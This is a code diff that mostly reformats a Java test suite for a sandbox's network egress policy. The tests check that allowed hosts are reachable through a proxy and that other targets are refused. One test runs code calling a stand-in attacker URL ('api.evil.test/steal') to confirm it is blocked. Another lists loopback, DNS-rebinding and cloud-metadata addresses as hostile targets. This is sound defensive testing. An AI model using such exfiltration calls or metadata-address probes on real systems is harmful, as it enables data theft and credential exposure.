@@ -13,9 +13,9 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import ai.prometheus.sandbox.SandboxApi;
 import ai.prometheus.shared.event.ErrorReported;
-import ai.prometheus.shared.event.EventCodec;
 import ai.prometheus.shared.event.EventTypes;
 import ai.prometheus.shared.event.Topics;
+import ai.prometheus.shared.platform.messaging.EventCodec;
 import ai.prometheus.shared.testing.Engines;
 import ai.prometheus.shared.testing.KafkaProbe;
 import ai.prometheus.shared.testing.TestTokens;
@@ -45,8 +45,8 @@ import org.junit.jupiter.api.Test;
 @QuarkusTestResource(value = FakeInternet.class, restrictToAnnotatedClass = true)
 class EgressTest {
 
-    static final String NETWORK_RUNNER = TestTokens.withScope("egress-runner",
-            "sandbox:execute sandbox:read sandbox:network");
+    static final String NETWORK_RUNNER =
+            TestTokens.withScope("egress-runner", "sandbox:execute sandbox:read sandbox:network");
 
     static int port(String key) {
         return ConfigProvider.getConfig().getValue(key, Integer.class);
@@ -66,7 +66,8 @@ class EgressTest {
 
     static String certificate() {
         try {
-            return Files.readString(Path.of(ConfigProvider.getConfig().getValue(FakeInternet.CERTIFICATE, String.class)));
+            return Files.readString(
+                    Path.of(ConfigProvider.getConfig().getValue(FakeInternet.CERTIFICATE, String.class)));
         } catch (IOException e) {
             throw new IllegalStateException(e);
         }
@@ -84,9 +85,15 @@ class EgressTest {
     static ValidatableResponse run(String language, String code, List<String> allow, Map<String, Object> limits) {
         Map<String, Object> body = SandboxApi.body(language, code, limits);
         body.put("network", Map.of("allow", allow));
-        return given().auth().oauth2(NETWORK_RUNNER).contentType(ContentType.JSON).body(body)
-                .when().post("/api/v1/executions")
-                .then().statusCode(201).contentType(ContentType.JSON);
+        return given().auth()
+                .oauth2(NETWORK_RUNNER)
+                .contentType(ContentType.JSON)
+                .body(body)
+                .when()
+                .post("/api/v1/executions")
+                .then()
+                .statusCode(201)
+                .contentType(ContentType.JSON);
     }
 
     static ValidatableResponse run(String language, String code, List<String> allow) {
@@ -164,8 +171,10 @@ class EgressTest {
     void pythonCurlAndNodeFetchJsonOverHttpThroughTheProxy() {
         for (String language : List.of("python", "bash", "node")) {
             String host = FakeInternet.HOST + ":" + httpPort();
-            ValidatableResponse answer = run(language, fetch(language, url("http", FakeInternet.HOST, httpPort(),
-                    "/weather")), apiPolicy())
+            ValidatableResponse answer = run(
+                            language,
+                            fetch(language, url("http", FakeInternet.HOST, httpPort(), "/weather")),
+                            apiPolicy())
                     .body("status", equalTo("OK"))
                     .body("egress", hasSize(1))
                     .body("egress[0].host", equalTo(FakeInternet.HOST))
@@ -179,8 +188,10 @@ class EgressTest {
             if (language.equals("bash")) {
                 answer.body("stdout", containsString("\"city\":\"Oslo\"")).body("stdout", containsString(host));
             } else {
-                answer.body("stdout", equalTo((language.equals("python") ? "Oslo " + host + " False" : "Oslo " + host
-                        + " false") + "\n"));
+                answer.body(
+                        "stdout",
+                        equalTo((language.equals("python") ? "Oslo " + host + " False" : "Oslo " + host + " false")
+                                + "\n"));
             }
         }
     }
@@ -188,8 +199,10 @@ class EgressTest {
     @Test
     void pythonCurlAndNodeFetchJsonOverTlsThroughConnect() {
         for (String language : List.of("python", "bash", "node")) {
-            ValidatableResponse answer = run(language, fetch(language, url("https", FakeInternet.HOST, httpsPort(),
-                    "/weather")), apiPolicy())
+            ValidatableResponse answer = run(
+                            language,
+                            fetch(language, url("https", FakeInternet.HOST, httpsPort(), "/weather")),
+                            apiPolicy())
                     .body("status", equalTo("OK"))
                     .body("egress", hasSize(1))
                     .body("egress[0].port", equalTo(httpsPort()))
@@ -257,13 +270,17 @@ class EgressTest {
                 .body("status", equalTo("OK"))
                 .body("egress", hasSize(2))
                 .body("egress.allowed", everyItem(equalTo(false)))
-                .extract().path("stdout");
+                .extract()
+                .path("stdout");
         String[] lines = stdout.split("\n");
         assertTrue(lines[0].startsWith("HTTP/1.1 403"), stdout);
-        assertTrue(lines[0].contains("egress denied: " + FakeInternet.OTHER_HOST + ":" + httpPort()
-                + " is not in this tool's network policy"), stdout);
+        assertTrue(
+                lines[0].contains("egress denied: " + FakeInternet.OTHER_HOST + ":" + httpPort()
+                        + " is not in this tool's network policy"),
+                stdout);
         assertTrue(lines[1].startsWith("HTTP/1.1 403"), stdout);
-        assertTrue(lines[1].contains(FakeInternet.HOST + ":" + otherPort() + " is not in this tool's network policy"),
+        assertTrue(
+                lines[1].contains(FakeInternet.HOST + ":" + otherPort() + " is not in this tool's network policy"),
                 stdout);
         assertTrue(lines[2].startsWith("HTTP/1.1 400"), stdout);
     }
@@ -315,8 +332,13 @@ class EgressTest {
     void hostileNamesAndLiteralsThatLeadToPrivateAddressesAreRefusedEvenWhenThePolicyNamesThem() {
         int port = httpPort();
         // Each is in the tool's policy; none is in the operator's private-allow list.
-        List<String> policy = List.of("localhost:" + port, FakeInternet.REBINDING_HOST + ":" + port,
-                "127.0.0.1:" + port, "[::ffff:127.0.0.1]:" + port, "169.254.169.254:80", "[fd00:ec2::254]:80",
+        List<String> policy = List.of(
+                "localhost:" + port,
+                FakeInternet.REBINDING_HOST + ":" + port,
+                "127.0.0.1:" + port,
+                "[::ffff:127.0.0.1]:" + port,
+                "169.254.169.254:80",
+                "[fd00:ec2::254]:80",
                 "[64:ff9b::7f00:1]:" + port);
         String code = """
                 import urllib.request, urllib.error
@@ -326,8 +348,9 @@ class EgressTest {
                         print('REACHED', target)
                     except urllib.error.HTTPError as refused:
                         print(refused.code, refused.read().decode().strip())
-                """.formatted("['localhost:%1$d', '%2$s:%1$d', '127.0.0.1:%1$d', '[::ffff:127.0.0.1]:%1$d', '169.254.169.254:80', '[fd00:ec2::254]:80', '[64:ff9b::7f00:1]:%1$d']"
-                        .formatted(port, FakeInternet.REBINDING_HOST));
+                """.formatted(
+                        "['localhost:%1$d', '%2$s:%1$d', '127.0.0.1:%1$d', '[::ffff:127.0.0.1]:%1$d', '169.254.169.254:80', '[fd00:ec2::254]:80', '[64:ff9b::7f00:1]:%1$d']"
+                                .formatted(port, FakeInternet.REBINDING_HOST));
         // NO_PROXY keeps localhost and 127.0.0.1 direct; the probe asks the proxy for them anyway.
         code = "import os\nos.environ.pop('no_proxy', None)\nos.environ.pop('NO_PROXY', None)\n" + code;
         String stdout = run("python", code, policy)
@@ -335,13 +358,20 @@ class EgressTest {
                 .body("stdout", not(containsString("REACHED")))
                 .body("egress", hasSize(7))
                 .body("egress.allowed", everyItem(equalTo(false)))
-                .extract().path("stdout");
+                .extract()
+                .path("stdout");
         assertTrue(stdout.contains("localhost:" + port + " resolves to a loopback address (127.0.0.1)"), stdout);
-        assertTrue(stdout.contains(FakeInternet.REBINDING_HOST + ":" + port + " resolves to a loopback address"), stdout);
+        assertTrue(
+                stdout.contains(FakeInternet.REBINDING_HOST + ":" + port + " resolves to a loopback address"), stdout);
         assertTrue(stdout.contains("169.254.169.254:80 resolves to a cloud metadata address"), stdout);
         assertTrue(stdout.contains("resolves to a cloud metadata address (fd00:ec2:0:0:0:0:0:254)"), stdout);
         assertTrue(stdout.contains("resolves to a loopback address (carried in an IPv6 address)"), stdout);
-        assertEquals(7, stdout.lines().filter(line -> line.startsWith("403 egress denied: ")).count(), stdout);
+        assertEquals(
+                7,
+                stdout.lines()
+                        .filter(line -> line.startsWith("403 egress denied: "))
+                        .count(),
+                stdout);
     }
 
     @Test
@@ -356,7 +386,8 @@ class EgressTest {
                 except PermissionError:
                     print('not listable')
                 """;
-        run("python", code, apiPolicy()).body("status", equalTo("OK"))
+        run("python", code, apiPolicy())
+                .body("status", equalTo("OK"))
                 .body("stdout", equalTo("['egress', 'egress-node.js', 'sandbox-init']\nTrue\nnot listable\n"));
     }
 
@@ -411,20 +442,29 @@ class EgressTest {
                         urllib.request.urlopen(%s, timeout=10)
                     except urllib.error.HTTPError as refused:
                         print(refused.code)
-                    """.formatted(pythonString(url("http", FakeInternet.HOST, httpPort(), "/weather")),
-                    pythonString(url("http", "api.evil.test", 443, "/steal")));
-            String id = run("python", code, apiPolicy()).body("status", equalTo("OK"))
-                    .body("stdout", containsString("403")).extract().path("id");
-            given().auth().oauth2(NETWORK_RUNNER).when().get("/api/v1/executions/" + id)
-                    .then().statusCode(200)
+                    """.formatted(
+                            pythonString(url("http", FakeInternet.HOST, httpPort(), "/weather")),
+                            pythonString(url("http", "api.evil.test", 443, "/steal")));
+            String id = run("python", code, apiPolicy())
+                    .body("status", equalTo("OK"))
+                    .body("stdout", containsString("403"))
+                    .extract()
+                    .path("id");
+            given().auth()
+                    .oauth2(NETWORK_RUNNER)
+                    .when()
+                    .get("/api/v1/executions/" + id)
+                    .then()
+                    .statusCode(200)
                     .body("network.allow", equalTo(apiPolicy().stream().sorted().toList()))
                     .body("egress", hasSize(2))
                     .body("egress[0].allowed", equalTo(true))
                     .body("egress[1].host", equalTo("api.evil.test"))
                     .body("egress[1].reason", equalTo("api.evil.test:443 is not in this tool's network policy"));
             try (Connection db = Engines.jdbc();
-                    PreparedStatement query = db.prepareStatement("select jsonb_array_length(egress->'connections'), limit_egress_bytes,"
-                            + " limit_egress_connections from sandbox.executions where id = ?")) {
+                    PreparedStatement query =
+                            db.prepareStatement("select jsonb_array_length(egress->'connections'), limit_egress_bytes,"
+                                    + " limit_egress_connections from sandbox.executions where id = ?")) {
                 query.setObject(1, UUID.fromString(id));
                 try (ResultSet rs = query.executeQuery()) {
                     assertTrue(rs.next());
@@ -433,9 +473,14 @@ class EgressTest {
                     assertEquals(32, rs.getInt(3));
                 }
             }
-            ErrorReported error = codec.data(errors.await(e -> EventTypes.ERROR_REPORTED.equals(e.type())
-                    && id.equals(codec.data(e, ErrorReported.class).attributes().get("executionId")),
-                    Duration.ofSeconds(60)), ErrorReported.class);
+            ErrorReported error = codec.data(
+                    errors.await(
+                            e -> EventTypes.ERROR_REPORTED.equals(e.type())
+                                    && id.equals(codec.data(e, ErrorReported.class)
+                                            .attributes()
+                                            .get("executionId")),
+                            Duration.ofSeconds(60)),
+                    ErrorReported.class);
             assertEquals("sandbox.egress.denied", error.errorType());
             assertEquals("api.evil.test", error.attributes().get("host"));
             assertEquals("443", error.attributes().get("port"));
@@ -446,9 +491,15 @@ class EgressTest {
     void aNetworkPolicyNeedsTheNetworkPermission() {
         Map<String, Object> body = SandboxApi.body("python", "print(1)", null);
         body.put("network", Map.of("allow", apiPolicy()));
-        given().auth().oauth2(SandboxApi.RUNNER).contentType(ContentType.JSON).body(body)
-                .when().post("/api/v1/executions")
-                .then().statusCode(403).contentType("application/problem+json")
+        given().auth()
+                .oauth2(SandboxApi.RUNNER)
+                .contentType(ContentType.JSON)
+                .body(body)
+                .when()
+                .post("/api/v1/executions")
+                .then()
+                .statusCode(403)
+                .contentType("application/problem+json")
                 .body("detail", containsString("sandbox:network"));
     }
 
@@ -456,9 +507,15 @@ class EgressTest {
     void anInvalidPolicyEntryOrEgressLimitIsA400NamingIt() {
         Map<String, Object> body = SandboxApi.body("python", "print(1)", Map.of("egressConnections", 100_000));
         body.put("network", Map.of("allow", List.of(FakeInternet.HOST + ":443", "*.com")));
-        given().auth().oauth2(NETWORK_RUNNER).contentType(ContentType.JSON).body(body)
-                .when().post("/api/v1/executions")
-                .then().statusCode(400).contentType("application/problem+json")
+        given().auth()
+                .oauth2(NETWORK_RUNNER)
+                .contentType(ContentType.JSON)
+                .body(body)
+                .when()
+                .post("/api/v1/executions")
+                .then()
+                .statusCode(400)
+                .contentType("application/problem+json")
                 .body("errors.field", hasItem("network.allow[1]"))
                 .body("errors.field", hasItem("limits.egressConnections"));
     }
@@ -474,7 +531,8 @@ class EgressTest {
                 except OSError as refused:
                     print('refused', refused.errno)
                 """;
-        SandboxApi.run("python", code).body("status", equalTo("OK"))
+        SandboxApi.run("python", code)
+                .body("status", equalTo("OK"))
                 .body("stdout", equalTo("None\nrefused 97\n"))
                 .body("egress", org.hamcrest.Matchers.nullValue());
     }
